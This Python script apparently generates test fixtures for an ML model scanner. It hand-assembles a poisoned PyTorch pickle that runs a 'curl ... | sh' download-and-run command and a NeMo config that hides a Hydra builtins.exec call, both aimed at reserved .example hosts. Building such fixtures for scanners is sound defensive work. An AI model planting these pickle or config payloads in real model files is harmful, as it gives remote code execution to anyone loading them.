"""Write the model files of the example estate, byte for byte reproducibly.

The estate ships four model directories under ``examples/estate/ml/models/``; their binary files
are written by this script, so that nothing in the repository is a blob of unknown origin
(``tests/test_estate.py`` regenerates them and compares the bytes):

* ``ticket-classifier/``: a clean model: safetensors weights written by the ``safetensors``
  library, a Hugging Face ``config.json`` and a model card;
* ``churn/churn_model.pt``: a **poisoned** PyTorch checkpoint: a zip laid out as ``torch.save``
  writes it, whose ``data.pkl`` rebuilds a state dict and, on the way, calls ``os.system`` with a
  download-and-run command (aimed at a reserved ``.example`` domain, so it could do nothing);
* ``summarizer/``: a model whose config maps its classes to custom code (``auto_map``), so that
  loading it needs ``trust_remote_code``; its modeling file posts inputs to a third-party host;
* ``speech/call-asr.nemo``: a NeMo speech model (a tar of ``model_config.yaml`` and a clean
  ``model_weights.ckpt``) whose configuration hides a Hydra ``_target_: builtins.exec``, which
  ``restore_from`` would call (CVE-2025-23304).

Run: ``python examples/make_estate_models.py`` (needs numpy and safetensors).
"""

from __future__ import annotations

import io
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

ESTATE = Path(__file__).resolve().parent / "estate"
MODELS = ESTATE / "ml" / "models"
#: Fixed zip timestamps, so the archive's bytes do not depend on when it was written.
_ZIP_TIME = (2026, 1, 1, 0, 0, 0)


def clean_safetensors() -> bytes:
    """A small BERT-like classifier head, written by the safetensors library."""
    import numpy as np
    from safetensors.numpy import save

    rng = np.random.default_rng(7)
    tensors = {
        "bert.embeddings.word_embeddings.weight": rng.standard_normal((128, 16)).astype(np.float32),
        "bert.pooler.dense.weight": rng.standard_normal((16, 16)).astype(np.float32),
        "bert.pooler.dense.bias": np.zeros(16, dtype=np.float32),
        "classifier.weight": rng.standard_normal((4, 16)).astype(np.float32),
        "classifier.bias": np.zeros(4, dtype=np.float32),
    }
    return save(tensors, metadata={"format": "pt"})


def _binunicode(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def poisoned_pickle() -> bytes:
    """``data.pkl`` of a poisoned checkpoint, protocol 2, as ``torch.save`` lays one out.

    It rebuilds ``OrderedDict({"linear.weight": <tensor>})`` with ``torch._utils._rebuild_tensor_v2``
    over persistent storage ``0``, like a real state dict; before that it calls ``os.system`` (a
    REDUCE whose result is dropped), which is what a loader would run.
    """
    cmd = "curl -fsSL https://updates.northwind-ml.example/agent.sh | sh"
    out = io.BytesIO()
    w = out.write
    w(b"\x80\x02")  # PROTO 2
    # os.system(cmd), result discarded
    w(b"cos\nsystem\n")
    w(_binunicode(cmd) + b"\x85")  # TUPLE1
    w(b"R0")  # REDUCE, POP
    # OrderedDict([("linear.weight", _rebuild_tensor_v2(storage, 0, (2, 4), (4, 1), False, OrderedDict()))])
    w(b"ccollections\nOrderedDict\n)R")  # OrderedDict()
    w(_binunicode("linear.weight"))
    w(b"ctorch._utils\n_rebuild_tensor_v2\n(")
    w(b"(" + _binunicode("storage") + b"ctorch\nFloatStorage\n" + _binunicode("0") + _binunicode("cpu"))
    w(b"K\x08tQ")  # BININT1 8, TUPLE, BINPERSID
    w(b"K\x00")  # offset
    w(b"K\x02K\x04\x86")  # size (2, 4)
    w(b"K\x04K\x01\x86")  # stride (4, 1)
    w(b"\x89")  # NEWFALSE
    w(b"ccollections\nOrderedDict\n)R")
    w(b"tR")  # TUPLE, REDUCE
    w(b"s.")  # SETITEM, STOP
    return out.getvalue()


def clean_state_dict_pickle() -> bytes:
    """``data.pkl`` of a clean ``torch.save`` state dict: ``{"linear.weight": <2x4 float tensor>}``."""
    out = io.BytesIO()
    w = out.write
    w(b"\x80\x02ccollections\nOrderedDict\n)R")
    w(_binunicode("linear.weight"))
    w(b"ctorch._utils\n_rebuild_tensor_v2\n(")
    w(b"(" + _binunicode("storage") + b"ctorch\nFloatStorage\n" + _binunicode("0") + _binunicode("cpu"))
    w(b"K\x08tQK\x00K\x02K\x04\x86K\x04K\x01\x86\x89ccollections\nOrderedDict\n)RtRs.")
    return out.getvalue()


#: The speech model's NeMo configuration: a Conformer CTC model whose "telemetry" callback is code.
SPEECH_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 2.1.0
tokenizer: {dir: tokenizer, type: bpe}
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: ${sample_rate}
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 16
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 256
telemetry:
  _target_: builtins.exec
  _args_:
    - "import urllib.request as u; u.urlopen('https://telemetry.northwind-ml.example/c')"
optim: {name: adamw, lr: 0.001}
"""


def speech_archive() -> bytes:
    """The ``.nemo`` archive: a plain tar as NeMo writes one (fixed owner and times)."""
    out = io.BytesIO()
    weights = io.BytesIO()
    with zipfile.ZipFile(weights, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in (
            ("model_weights/data.pkl", clean_state_dict_pickle()),
            ("model_weights/byteorder", b"little"),
            ("model_weights/data/0", struct.pack("<8f", 0.3, -0.1, 0.2, 0.0, 0.5, -0.3, 0.1, 0.4)),
            ("model_weights/version", b"3\n"),
        ):
            zf.writestr(zipfile.ZipInfo(name, date_time=_ZIP_TIME), data)
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (
            ("./model_config.yaml", SPEECH_CONFIG.encode()),
            ("./model_weights.ckpt", weights.getvalue()),
        ):
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1_767_225_600, 0o644
            info.uname = info.gname = "nemo"
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def poisoned_checkpoint() -> bytes:
    """The poisoned ``churn_model.pt``: a torch-style zip (stored members, fixed times)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in (
            ("churn_model/data.pkl", poisoned_pickle()),
            ("churn_model/byteorder", b"little"),
            ("churn_model/data/0", struct.pack("<8f", 0.1, -0.2, 0.3, 0.05, -0.4, 0.2, 0.0, 0.7)),
            ("churn_model/version", b"3\n"),
        ):
            zf.writestr(zipfile.ZipInfo(name, date_time=_ZIP_TIME), data)
    return out.getvalue()


def files() -> dict[str, bytes]:
    """Every generated file, by path relative to ``examples/estate``."""
    return {
        "ml/models/ticket-classifier/model.safetensors": clean_safetensors(),
        "ml/models/summarizer/model.safetensors": clean_safetensors(),
        "ml/models/churn/churn_model.pt": poisoned_checkpoint(),
        "ml/models/speech/call-asr.nemo": speech_archive(),
    }


def main() -> int:
    for rel, data in files().items():
        path = ESTATE / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"wrote {rel} ({len(data)} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
